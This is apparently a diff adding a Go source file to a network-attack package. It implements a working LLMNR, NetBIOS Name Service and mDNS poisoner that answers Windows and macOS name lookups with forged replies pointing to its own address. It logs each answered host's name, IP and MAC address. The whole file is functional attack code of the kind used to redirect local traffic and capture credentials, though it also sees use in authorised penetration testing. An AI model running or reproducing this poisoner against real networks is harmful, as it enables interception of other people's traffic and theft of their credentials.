@@ -0,0 +1,295 @@
+package spoof
+
+import (
+	"bytes"
+	"encoding/binary"
+	"errors"
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+	"github.com/miekg/dns"
+	"github.com/tinygoprogs/netmess/discovery"
+	"log"
+	"net"
+	"strings"
+	"sync"
+	"time"
+)
+
+// multicast name resolution ports
+const (
+	llmnrPort = 5355
+	nbnsPort  = 137
+	mdnsPort  = 5353
+)
+
+var (
+	mdnsGroup4 = net.IPv4(224, 0, 0, 251)
+	mdnsGroup6 = net.ParseIP("ff02::fb")
+)
+
+// A name query we answered.
+type NameRequest struct {
+	Time time.Time
+	// "llmnr", "nbns" or "mdns"
+	Proto string
+	Name  string
+	Addr  net.IP
+	Mac   net.HardwareAddr
+}
+
+func (r *NameRequest) String() string {
+	return r.Proto + ": " + r.Mac.String() + " @ " + r.Addr.String() + " -> " + r.Name
+}
+
+// Answers LLMNR, NetBIOS Name Service and mDNS queries for Names with our own
+// address, i.e. poisons the fallback name resolution of Windows and macOS
+// hosts. Every answered requester is logged and kept in Requests().
+//
+// Implements Spoof interface.
+type Responder struct {
+	stats
+	// matched like DNSRule patterns, ".local" is stripped before matching
+	Names []*DNSRule
+	// protocols to poison, all enabled by default (NBNS only with an IPv4
+	// address)
+	LLMNR bool
+	NBNS  bool
+	MDNS  bool
+	// TTL of forged answers
+	TTL uint32
+
+	net      *discovery.Network
+	listener *discovery.Listener
+	// responderReason, unless embedded into another spoofer
+	reason   discovery.ListenerReason
+	src6     net.IP
+	lock     sync.Mutex
+	requests []NameRequest
+}
+
+// Answer queries for the given name patterns, e.g. "wpad" or "*". Without an
+// IPv4 address there is nothing to answer NBNS queries with, so it stays off.
+func NewResponder(n *discovery.Network, names ...string) (*Responder, error) {
+	if len(names) == 0 {
+		return nil, errors.New("no names")
+	}
+	r := Responder{
+		LLMNR:  true,
+		NBNS:   n.Localhost.Addr != nil,
+		MDNS:   true,
+		TTL:    30,
+		net:    n,
+		reason: responderReason,
+		src6:   n.LinkLocal(),
+	}
+	answers := []string{r.src6.String()}
+	if n.Localhost.Addr != nil {
+		// no A answers on an IPv6 only interface
+		answers = append(answers, n.Localhost.Addr.String())
+	}
+	for _, name := range names {
+		rule, err := NewDNSRule(name, answers...)
+		if err != nil {
+			return nil, err
+		}
+		r.Names = append(r.Names, rule)
+	}
+	return &r, nil
+}
+
+var responderReason = discovery.ListenerReason{Class: discovery.InteractiveListener, Name: "spoof llmnr/nbns/mdns"}
+
+func (r *Responder) Start() error {
+	var err error
+	r.listener, err = r.net.Listeners.Add(r.reason, r.handle,
+		discovery.LayerFilter(layers.LayerTypeUDP))
+	return err
+}
+
+// stop answering; poisoned caches time out by themselves (TTL)
+func (r *Responder) Stop() {
+	r.listener.Remove()
+}
+
+// Snapshot of all answered requests.
+func (r *Responder) Requests() []NameRequest {
+	r.lock.Lock()
+	defer r.lock.Unlock()
+	return append([]NameRequest(nil), r.requests...)
+}
+
+func (r *Responder) handle(pkt gopacket.Packet) {
+	udplayer := pkt.Layer(layers.LayerTypeUDP)
+	eth, ok := pkt.LinkLayer().(*layers.Ethernet)
+	if udplayer == nil || !ok || bytes.Equal(eth.SrcMAC, r.net.Localhost.Mac) {
+		return
+	}
+	udp := udplayer.(*layers.UDP)
+	switch {
+	case udp.DstPort == llmnrPort && r.LLMNR:
+		r.llmnr(pkt, eth, udp)
+	case udp.DstPort == nbnsPort && r.NBNS:
+		r.nbns(pkt, eth, udp)
+	case udp.DstPort == mdnsPort && r.MDNS:
+		r.mdns(pkt, eth, udp)
+	}
+}
+
+// LLMNR uses the DNS wire format, answers are unicast from our own address.
+func (r *Responder) llmnr(pkt gopacket.Packet, eth *layers.Ethernet, udp *layers.UDP) {
+	query := new(dns.Msg)
+	if err := query.Unpack(udp.Payload); err != nil || len(query.Question) != 1 {
+		return
+	}
+	reply := dnsForge(r.Names, r.TTL, query)
+	if reply == nil {
+		return
+	}
+	reply.Authoritative = false
+	reply.RecursionAvailable = false
+	payload, err := reply.Pack()
+	if err != nil {
+		return
+	}
+	src := pkt.NetworkLayer().NetworkFlow().Src().Raw()
+	r.send(eth.SrcMAC, src, llmnrPort, uint16(udp.SrcPort), payload)
+	r.record("llmnr", query.Question[0].Name, src, eth.SrcMAC)
+}
+
+// mDNS answers go to the group, unless the querier asked for a unicast
+// response (QU bit) or is a legacy resolver not using port 5353.
+func (r *Responder) mdns(pkt gopacket.Packet, eth *layers.Ethernet, udp *layers.UDP) {
+	query := new(dns.Msg)
+	if err := query.Unpack(udp.Payload); err != nil || query.Response {
+		return
+	}
+	unicast := udp.SrcPort != mdnsPort
+	var answers []dns.RR
+	for _, q := range query.Question {
+		if q.Qclass&0x8000 != 0 {
+			unicast = true
+		}
+		name := strings.TrimSuffix(strings.ToLower(q.Name), ".local.")
+		if rule := dnsMatch(r.Names, name); rule != nil {
+			answers = append(answers, rule.Answer(q, r.TTL)...)
+		}
+	}
+	if len(answers) == 0 {
+		return
+	}
+	reply := new(dns.Msg)
+	reply.Response = true
+	reply.Authoritative = true
+	reply.Answer = answers
+	if unicast {
+		reply.Id = query.Id
+		reply.Question = query.Question
+	}
+	payload, err := reply.Pack()
+	if err != nil {
+		return
+	}
+	src := pkt.NetworkLayer().NetworkFlow().Src().Raw()
+	if unicast {
+		r.send(eth.SrcMAC, src, mdnsPort, uint16(udp.SrcPort), payload)
+	} else if net.IP(src).To4() != nil {
+		r.send(multicastMAC(mdnsGroup4), mdnsGroup4, mdnsPort, mdnsPort, payload)
+	} else {
+		r.send(discovery.MulticastMAC6(mdnsGroup6), mdnsGroup6, mdnsPort, mdnsPort, payload)
+	}
+	r.record("mdns", query.Question[0].Name, src, eth.SrcMAC)
+}
+
+// NetBIOS name query, RFC 1002 4.2.12
+func (r *Responder) nbns(pkt gopacket.Packet, eth *layers.Ethernet, udp *layers.UDP) {
+	q := udp.Payload
+	// header + encoded name (34) + type + class
+	if len(q) < 12+34+4 || q[2]&0xf8 != 0 || q[12] != 0x20 {
+		return
+	}
+	name, suffix := nbnsDecode(q[13:45])
+	if binary.BigEndian.Uint16(q[46:]) != 0x20 || suffix == 0x1b || suffix == 0x1d {
+		// only NB records; leave domain/master browser lookups alone
+		return
+	}
+	ip := r.net.Localhost.Addr.To4()
+	if ip == nil || dnsMatch(r.Names, name) == nil {
+		return
+	}
+
+	reply := make([]byte, 0, 12+34+4+4+2+6)
+	reply = append(reply, q[0], q[1], 0x85, 0x00, 0, 0, 0, 1, 0, 0, 0, 0)
+	reply = append(reply, q[12:46]...)
+	reply = append(reply, 0, 0x20, 0, 1)
+	reply = binary.BigEndian.AppendUint32(reply, r.TTL)
+	reply = append(reply, 0, 6, 0, 0)
+	reply = append(reply, ip...)
+
+	src := pkt.NetworkLayer().NetworkFlow().Src().Raw()
+	r.send(eth.SrcMAC, src, nbnsPort, uint16(udp.SrcPort), reply)
+	r.record("nbns", name, src, eth.SrcMAC)
+}
+
+// Decode a first-level encoded NetBIOS name into its trimmed name and
+// suffix byte.
+func nbnsDecode(enc []byte) (string, byte) {
+	raw := make([]byte, len(enc)/2)
+	for i := range raw {
+		raw[i] = (enc[2*i]-'A')<<4 | (enc[2*i+1] - 'A')
+	}
+	return strings.TrimRight(string(raw[:15]), " "), raw[15]
+}
+
+func (r *Responder) record(proto, name string, addr net.IP, mac net.HardwareAddr) {
+	req := NameRequest{
+		Time:  time.Now(),
+		Proto: proto,
+		Name:  strings.TrimSuffix(name, "."),
+		Addr:  append(net.IP(nil), addr...),
+		Mac:   append(net.HardwareAddr(nil), mac...),
+	}
+	log.Printf("[+] %s", req.String())
+	r.hit(req.Addr.String())
+	r.lock.Lock()
+	r.requests = append(r.requests, req)
+	r.lock.Unlock()
+}
+
+func (r *Responder) send(mac net.HardwareAddr, dst net.IP, sport, dport uint16, payload []byte) {
+	leth := layers.Ethernet{
+		SrcMAC: r.net.Localhost.Mac,
+		DstMAC: mac,
+	}
+	var lip ipLayer
+	if dst.To4() != nil {
+		leth.EthernetType = layers.EthernetTypeIPv4
+		lip = &layers.IPv4{
+			Version:  4,
+			TTL:      255,
+			Protocol: layers.IPProtocolUDP,
+			SrcIP:    r.net.Localhost.Addr,
+			DstIP:    dst,
+		}
+	} else {
+		leth.EthernetType = layers.EthernetTypeIPv6
+		lip = &layers.IPv6{
+			Version:    6,
+			HopLimit:   255,
+			NextHeader: layers.IPProtocolUDP,
+			SrcIP:      r.src6,
+			DstIP:      dst,
+		}
+	}
+	ludp := layers.UDP{
+		SrcPort: layers.UDPPort(sport),
+		DstPort: layers.UDPPort(dport),
+	}
+	ludp.SetNetworkLayerForChecksum(lip)
+	r.write(r.net, &leth, lip, &ludp, gopacket.Payload(payload))
+}
+
+// 01:00:5e:xx:xx:xx
+func multicastMAC(ip net.IP) net.HardwareAddr {
+	ip = ip.To4()
+	return net.HardwareAddr{0x01, 0x00, 0x5e, ip[1] & 0x7f, ip[2], ip[3]}
+}